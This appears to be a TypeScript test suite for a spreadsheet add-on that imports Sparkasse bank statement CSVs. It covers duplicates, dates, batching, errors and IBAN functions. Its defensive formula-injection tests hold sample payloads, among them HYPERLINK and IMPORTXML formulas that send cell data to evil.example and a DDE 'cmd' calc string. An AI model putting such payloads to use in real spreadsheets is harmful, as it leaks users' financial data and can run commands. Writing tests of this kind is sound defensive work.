/**
 * The first real path, through the built bundle and the local runtime, exactly as the sidebar drives it:
 * list profiles → preview a Sparkasse CSV → import → import again.
 */
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createRuntime } from '../../local/runtime';
import { base64, sparkasseCsvText, windows1252, type SparkasseRow } from '../helpers/sparkasse-csv';

const dist = path.resolve(__dirname, '../../dist');
const profileId = 'sparkasse-csv-camt-v2';

const rows: SparkasseRow[] = [
  { bookingDate: '30.12.24', valueDate: '30.12.24', purpose: 'RE-2024-0815 Honorar Müller', counterparty: 'Jürgen Müller', iban: 'DE89 3704 0044 0532 0130 00', amount: '1234,56' },
  { bookingDate: '31.12.24', valueDate: '02.01.25', purpose: '=HYPERLINK("http://evil.example/?"&A1;"klick")', counterparty: '+Angreifer', amount: '-12,00', bookingText: 'LASTSCHRIFT' },
  { bookingDate: '02.01.25', purpose: '0012 Miete Januar', counterparty: 'Hausverwaltung Süd GmbH', iban: 'DE02120300000000202051', amount: '-1500,00' },
  { bookingDate: '02.01.25', purpose: '0012 Miete Januar', counterparty: 'Hausverwaltung Süd GmbH', iban: 'DE02120300000000202051', amount: '-1500,00' },
];

/** Every way a cell's text starts a formula in Sheets (CWE-1236): `=`, `+`, `-`, `@`. */
const injections: SparkasseRow[] = [
  { bookingDate: '05.01.25', purpose: '-2+3+cmd|\' /C calc\'!A0', counterparty: '@SUM(1+1)*cmd', amount: '1,00' },
  { bookingDate: '05.01.25', purpose: '@IMPORTXML("http://evil.example/?"&A1;"//a")', counterparty: '-Mallory', amount: '2,00' },
  { bookingDate: '05.01.25', purpose: '+IMAGE("http://evil.example/x.png")', counterparty: '=1+1', amount: '3,00' },
];

function file(name: string, content: SparkasseRow[]) {
  return { fileName: name, contentBase64: base64(windows1252(sparkasseCsvText(content))), profileId };
}

describe('import of a Sparkasse statement through the built bundle', () => {
  it('lists the Sparkasse profile, described in the user\'s language', () => {
    type Profiles = { profiles: Array<{ id: string; name: string; description: string }> };
    const german = createRuntime({ bundleDir: dist, userLocale: 'de_AT' }).call('listProfiles', {}) as Profiles;
    const english = createRuntime({ bundleDir: dist, userLocale: 'en' }).call('listProfiles', {}) as Profiles;
    expect(german.profiles.map((p) => p.id)).toContain(profileId);
    expect(german.profiles.find((p) => p.id === profileId)!.description).toMatch(/^Export "CSV-CAMT V2" aus dem Online-Banking/);
    expect(english.profiles.find((p) => p.id === profileId)!.description).toMatch(/^Sparkasse online banking export/);
  });

  it('previews without writing, then imports in one batched write, then recognises every duplicate', () => {
    const runtime = createRuntime({ bundleDir: dist, workbook: { timeZone: 'Europe/Berlin' } });
    const preview = runtime.call('previewImport', file('oktober.csv', rows)) as Record<string, unknown>;
    expect(preview).toMatchObject({ rowsRead: 4, newCount: 4, duplicateCount: 0, errorCount: 0, skippedCount: 0 });
    expect(runtime.spreadsheet.getSheetByName('Transactions')).toBeNull();

    const first = runtime.call('importStatement', { ...file('oktober.csv', rows), importGoodRows: false }) as Record<string, unknown>;
    expect(first).toMatchObject({ status: 'imported', imported: 4, duplicates: 0, rejected: 0, sheetName: 'Transactions' });

    const sheet = runtime.spreadsheet.sheet('Transactions');
    const values = sheet.values();
    const header = values[0] as string[];
    const col = (name: string) => header.indexOf(name);
    expect(values).toHaveLength(5);
    expect(values[1]![col('Counterparty')]).toBe('Jürgen Müller');
    expect(values[1]![col('Amount')]).toBe(1234.56);
    expect(values[1]![col('IBAN')]).toBe('DE89370400440532013000');
    // Untrusted text stays text: no formula, no number, no lost leading zeros.
    expect(sheet.formulas().flat().filter((f) => f !== '')).toEqual([]);
    expect(values[2]![col('Purpose')]).toBe('=HYPERLINK("http://evil.example/?"&A1;"klick")');
    expect(values[2]![col('Counterparty')]).toBe('+Angreifer');
    expect(values[3]![col('Purpose')]).toBe('0012 Miete Januar');
    // One write per sheet: the transactions, and the entry in the import history.
    expect(runtime.spreadsheet.sheet('Imports').values()).toHaveLength(2);
    // Two genuinely identical payments on one day are two transactions.
    expect(values[3]![col('Fingerprint')]).not.toBe(values[4]![col('Fingerprint')]);

    const again = runtime.call('importStatement', { ...file('oktober.csv', rows), importGoodRows: false }) as Record<string, unknown>;
    expect(again).toMatchObject({ status: 'nothing-new', imported: 0, duplicates: 4 });
    expect(sheet.values()).toHaveLength(5);
    const preview2 = runtime.call('previewImport', file('oktober.csv', rows)) as Record<string, unknown>;
    expect(preview2).toMatchObject({ newCount: 0, duplicateCount: 4 });
  });

  it('never turns bank text starting with =, +, - or @ into a formula, nor a file name in the import history', () => {
    const runtime = createRuntime({ bundleDir: dist });
    const fileName = '=HYPERLINK("http://evil.example/?"&B2;"statement").csv';
    const result = runtime.call('importStatement', { ...file(fileName, injections), importGoodRows: false }) as Record<string, unknown>;
    expect(result).toMatchObject({ status: 'imported', imported: 3 });
    const transactions = runtime.spreadsheet.sheet('Transactions');
    const header = transactions.values()[0] as string[];
    const rows = transactions.values().slice(1);
    expect(rows.map((r) => r[header.indexOf('Purpose')])).toEqual(injections.map((r) => r.purpose));
    expect(rows.map((r) => r[header.indexOf('Counterparty')])).toEqual(injections.map((r) => r.counterparty));
    expect(rows.map((r) => r[header.indexOf('Import file')])).toEqual([fileName, fileName, fileName]);
    expect(transactions.formulas().flat().filter((f) => f !== '')).toEqual([]);
    const imports = runtime.spreadsheet.sheet('Imports');
    const importsHeader = imports.values()[0] as string[];
    expect(imports.values()[1]![importsHeader.indexOf('File')]).toBe(fileName);
    expect(imports.formulas().flat().filter((f) => f !== '')).toEqual([]);
  });

  it('keeps calendar dates whatever the script and spreadsheet time zones', () => {
    for (const timeZone of ['Pacific/Kiritimati', 'Pacific/Pago_Pago', 'Europe/Berlin']) {
      for (const scriptTimeZone of ['America/Los_Angeles', 'Asia/Tokyo']) {
        const runtime = createRuntime({ bundleDir: dist, scriptTimeZone, workbook: { timeZone, locale: 'de_DE' } });
        runtime.call('importStatement', { ...file('a.csv', rows.slice(0, 2)), importGoodRows: false });
        const display = runtime.spreadsheet.sheet('Transactions').displayValues();
        const header = display[0]!;
        expect([display[1]![header.indexOf('Booking date')], display[2]![header.indexOf('Value date')]], `${timeZone}/${scriptTimeZone}`).toEqual(['30.12.2024', '02.01.2025']);
      }
    }
  });

  it('costs a constant number of Sheets calls whatever the number of rows', () => {
    const many: SparkasseRow[] = Array.from({ length: 3001 }, (_, i) => ({
      bookingDate: '15.10.26', purpose: `RE-2026-${String(i).padStart(4, '0')}`, counterparty: `Mandant ${i}`, amount: `${i + 1},00`,
    }));
    const calls = (count: number) => {
      const runtime = createRuntime({ bundleDir: dist });
      runtime.call('importStatement', { ...file('x.csv', many.slice(0, 1)), importGoodRows: false });
      runtime.counters.reset();
      runtime.call('importStatement', { ...file('y.csv', many.slice(1, count + 1)), importGoodRows: false });
      const snapshot = runtime.counters.snapshot();
      const sheetsCalls = Object.entries(snapshot).filter(([k]) => /^(Range|Sheet|Spreadsheet)\./.test(k));
      return {
        // Growing the sheet past its 1,000 rows is one more call, once, whatever the number of rows.
        grows: snapshot['Sheet.insertRowsAfter'] ?? 0,
        other: sheetsCalls.filter(([k]) => k !== 'Sheet.insertRowsAfter').reduce((n, [, v]) => n + v, 0),
        writes: snapshot['Range.setValues'] ?? 0,
        rows: runtime.spreadsheet.sheet('Transactions').values().length,
      };
    };
    const results = [3, 900, 1500, 3000].map(calls);
    expect(results.map((r) => r.rows)).toEqual([5, 902, 1502, 3002]);
    // One write for the transactions, one for the entry in the "Imports" sheet.
    expect(results.map((r) => r.writes)).toEqual([2, 2, 2, 2]);
    expect(results.map((r) => r.grows)).toEqual([0, 0, 1, 1]);
    expect(new Set(results.map((r) => r.other)).size).toBe(1);
  });

  it('with unreadable lines writes nothing unless the user accepts the good rows', () => {
    const broken: SparkasseRow[] = [...rows.slice(0, 1), { bookingDate: '31.02.25', purpose: 'x', counterparty: 'y', amount: '1,00' }, { bookingDate: '01.03.25', purpose: 'x', counterparty: 'y', amount: '12,3x' }];
    const runtime = createRuntime({ bundleDir: dist });
    const preview = runtime.call('previewImport', file('kaputt.csv', broken)) as { errors: Array<Record<string, unknown>>; errorCount: number };
    expect(preview.errorCount).toBe(2);
    expect(preview.errors[0]).toMatchObject({ file: 'kaputt.csv', line: 3, column: 1, found: '31.02.25' });
    expect(preview.errors[1]).toMatchObject({ file: 'kaputt.csv', line: 4, column: 14, found: '12,3x' });

    const refused = runtime.call('importStatement', { ...file('kaputt.csv', broken), importGoodRows: false }) as Record<string, unknown>;
    expect(refused).toMatchObject({ status: 'refused', imported: 0, rejected: 2 });
    expect(runtime.spreadsheet.getSheetByName('Transactions')).toBeNull();

    const accepted = runtime.call('importStatement', { ...file('kaputt.csv', broken), importGoodRows: true }) as Record<string, unknown>;
    expect(accepted).toMatchObject({ status: 'imported', imported: 1, rejected: 2 });
  });

  it('finds its columns by header text after the user rearranged them', () => {
    const runtime = createRuntime({ bundleDir: dist });
    runtime.call('importStatement', { ...file('a.csv', rows.slice(0, 1)), importGoodRows: false });
    // The user moves "Purpose" to the front and adds a column of their own.
    const sheet = runtime.spreadsheet.getSheetByName('Transactions')!;
    const width = sheet.getLastColumn();
    const data = sheet.getRange(1, 1, 2, width).getValues();
    const purposeAt = (data[0] as string[]).indexOf('Purpose');
    const reordered = data.map((r) => [r[purposeAt], 'my note', ...r.filter((_, i) => i !== purposeAt)]);
    if (sheet.getMaxColumns() <= width) sheet.insertColumnsAfter(width, 1);
    sheet.getRange(1, 1, 2, width + 1).setNumberFormat('@').setValues(reordered.map((r, i) => (i === 0 ? ['Purpose', 'Notes', ...r.slice(2)] : r)));
    runtime.call('importStatement', { ...file('b.csv', rows.slice(2, 3)), importGoodRows: false });
    const values = runtime.spreadsheet.sheet('Transactions').values();
    expect(values[2]![0]).toBe('0012 Miete Januar');
    expect(values[2]![1]).toBe('');
  });

  it('leaves out pending bookings and says which lines', () => {
    const runtime = createRuntime({ bundleDir: dist });
    const pending = [...rows.slice(0, 1), { bookingDate: '03.01.25', purpose: 'Kartenzahlung', counterparty: 'Tankstelle', amount: '-60,00', info: 'Umsatz vorgemerkt' }];
    const preview = runtime.call('previewImport', file('p.csv', pending)) as { rowsRead: number; newCount: number; skippedCount: number; skipped: Array<{ line: number; reason: string }> };
    expect(preview).toMatchObject({ rowsRead: 2, newCount: 1, skippedCount: 1 });
    expect(preview.skipped[0]!.line).toBe(3);
    expect(preview.skipped[0]!.reason).toMatch(/pending/i);
  });

  it('reports a file that is not a statement by its name', () => {
    const runtime = createRuntime({ bundleDir: dist });
    expect(() => runtime.call('previewImport', { fileName: 'leer.csv', contentBase64: '', profileId })).toThrow(/leer\.csv.*empty/);
    expect(() => runtime.call('previewImport', { fileName: 'bild.png', contentBase64: base64(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13, 0, 0])), profileId })).toThrow(/bild\.png.*binary/);
    expect(() => runtime.call('previewImport', { ...file('a.csv', rows), profileId: 'no-such-bank' })).toThrow(/no bank profile "no-such-bank"/);
  });

  it('serves the custom functions on ranges, blanks staying blank', () => {
    const runtime = createRuntime({ bundleDir: dist });
    expect(runtime.call('KM_IBAN_VALID', [['DE89 3704 0044 0532 0130 00'], [''], ['DE89370400440532013001']])).toEqual([[true], [''], [false]]);
    expect(runtime.call('KM_IBAN_FORMAT', 'de89370400440532013000')).toBe('DE89 3704 0044 0532 0130 00');
    expect(runtime.call('KM_IBAN_FORMAT', 'DE00123')).toMatch(/^invalid IBAN: /);
  });
});
